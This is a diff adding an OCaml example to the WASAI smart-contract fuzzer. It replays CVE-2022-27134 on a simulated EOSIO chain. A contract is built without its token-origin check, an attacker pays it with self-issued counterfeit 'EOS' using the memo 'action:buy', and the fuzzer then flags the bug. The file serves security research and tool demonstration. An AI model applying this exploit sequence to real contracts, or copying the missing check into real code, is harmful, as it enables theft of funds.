@@ -1,0 +1,96 @@
+(* The CVE-2022-27134 scenario (batdappboomx): a contract that pays a
+   reward whenever it receives an EOS transfer whose memo is
+   "action:buy" — without checking that the tokens are real EOS.
+
+     dune exec examples/fake_eos_cve.exe
+
+   Part 1 replays the exploit by hand: the attacker issues a fake "EOS"
+   currency from their own token contract and buys the reward with it.
+   Part 2 shows WASAI finding the same bug automatically, solving the
+   memo gate on the way. *)
+
+module BG = Wasai_benchgen
+module Core = Wasai_core
+open Wasai_eosio
+
+let n = Name.of_string
+let victim = n "batdappboomx"
+let attacker = n "attacker"
+let fake_token = n "fake.token"
+
+let build_victim () =
+  BG.Contracts.build
+    {
+      (BG.Contracts.default_spec victim) with
+      (* The bug: no [code == eosio.token] check in apply. *)
+      BG.Contracts.sp_fake_eos_guard = false;
+      sp_auth_check = false;
+      sp_payout_inline = true;
+      (* The reward only flows for the magic memo. *)
+      sp_memo_gate = Some "action:buy";
+    }
+
+let () =
+  print_endline "== CVE-2022-27134: fake EOS against batdappboomx ==\n";
+
+  (* ---- Part 1: the exploit, by hand -------------------------------- *)
+  let chain = Host.create_chain () in
+  Token.bootstrap chain ~treasury:(n "treasury") ~supply:1_000_000_0000L;
+  List.iter (fun a -> ignore (Chain.create_account chain a))
+    [ victim; attacker; fake_token ];
+  let m, abi = build_victim () in
+  Chain.set_code chain victim m abi;
+  (* The victim holds real EOS (its prize pool). *)
+  Token.set_balance chain ~token:Name.eosio_token ~owner:victim
+    ~symbol:Asset.Symbol.eos 1_000_0000L;
+  (* The attacker deploys the token code and issues themselves "EOS". *)
+  Token.deploy chain fake_token;
+  let push a = Chain.push_action chain a in
+  ignore
+    (push
+       (Action.of_args ~account:fake_token ~name:(n "create")
+          ~args:[ Abi.V_name attacker; Abi.V_asset (Asset.eos_of_units 1_000_0000L) ]
+          ~auth:[ fake_token ]));
+  ignore
+    (push
+       (Action.of_args ~account:fake_token ~name:(n "issue")
+          ~args:
+            [
+              Abi.V_name attacker;
+              Abi.V_asset (Asset.eos_of_units 1_000_0000L);
+              Abi.V_string "counterfeit";
+            ]
+          ~auth:[ attacker ]));
+  let real_before = Token.eos_balance chain ~owner:attacker in
+  (* The "purchase": 100.0000 fake EOS with the magic memo. *)
+  let r =
+    push
+      (Token.transfer_action ~token:fake_token ~from:attacker ~to_:victim
+         ~quantity:(Asset.eos_of_units 100_0000L) ~memo:"action:buy")
+  in
+  let real_after = Token.eos_balance chain ~owner:attacker in
+  Printf.printf "exploit transaction: %s\n"
+    (if r.Chain.tx_ok then "committed" else "reverted");
+  Printf.printf "attacker real-EOS balance: %Ld -> %Ld units\n" real_before
+    real_after;
+  assert (Int64.compare real_after real_before > 0);
+  Printf.printf "the victim paid %Ld units of REAL EOS for counterfeit tokens.\n\n"
+    (Int64.sub real_after real_before);
+
+  (* ---- Part 2: WASAI finds it automatically ------------------------- *)
+  print_endline "running WASAI against the same binary...";
+  let m, abi = build_victim () in
+  let outcome =
+    Core.Engine.fuzz
+      { Core.Engine.tgt_account = victim; tgt_module = m; tgt_abi = abi }
+  in
+  List.iter
+    (fun (f, b) ->
+      Printf.printf "  %-14s %s\n"
+        (Core.Scanner.string_of_flag f)
+        (if b then "VULNERABLE" else "ok"))
+    outcome.Core.Engine.out_flags;
+  assert (Core.Engine.flagged outcome Core.Scanner.Fake_eos);
+  print_endline
+    "\nWASAI solved the memo gate (\"action:buy\") and flagged the fake-EOS path,";
+  print_endline "matching the CVE report."
